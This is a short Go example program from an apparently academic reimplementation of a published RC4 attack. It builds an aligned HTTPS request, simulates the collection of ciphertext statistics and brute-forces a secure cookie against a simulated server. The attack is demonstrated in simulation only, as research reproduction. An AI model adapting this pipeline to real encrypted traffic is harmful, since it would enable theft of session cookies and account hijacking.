// HTTPS cookie example: the §6 attack in miniature — craft the Listing-3
// aligned request, collect ciphertext statistics at paper scale in model
// mode (sufficient-statistic sampling is O(1) in the ciphertext count),
// generate the charset-restricted candidate list, and brute-force the
// secure cookie against the simulated server.
package main

import (
	"fmt"
	"math/rand"

	"rc4break/internal/cookieattack"
	"rc4break/internal/job"
	"rc4break/internal/netsim"
)

func main() {
	const secret = "S3cretAuthToken/"

	cfg, _, err := job.CookieConfig(secret)
	if err != nil {
		panic(err)
	}
	fmt.Printf("aligned request: cookie at offset %d, %d bytes total\n",
		cfg.Offset, len(cfg.Plaintext))

	attack, err := cookieattack.New(cfg)
	if err != nil {
		panic(err)
	}

	const ciphertexts = 9 << 27 // the paper's 94%-success operating point
	fmt.Printf("collecting %d ciphertext copies (~%.0f hours of live traffic at %d req/s)...\n",
		uint64(ciphertexts), float64(ciphertexts)/netsim.HTTPSRequestsPerSecond/3600,
		netsim.HTTPSRequestsPerSecond)
	if err := attack.SimulateStatistics(rand.New(rand.NewSource(9)), []byte(secret), ciphertexts); err != nil {
		panic(err)
	}

	server := &netsim.CookieServer{Secret: []byte(secret)}
	fmt.Println("brute-forcing candidate list against the server...")
	cookie, rank, err := attack.BruteForce(1<<16, server.Check)
	if err != nil {
		fmt.Println("cookie not found this run:", err)
		return
	}
	fmt.Printf("recovered cookie %q at candidate rank %d after %d server checks\n",
		cookie, rank, server.Attempts)
	fmt.Printf("(%d checks take %.1f s at the paper's %d tests/s)\n",
		server.Attempts, float64(server.Attempts)/netsim.BruteForceTestsPerSecond,
		netsim.BruteForceTestsPerSecond)
}
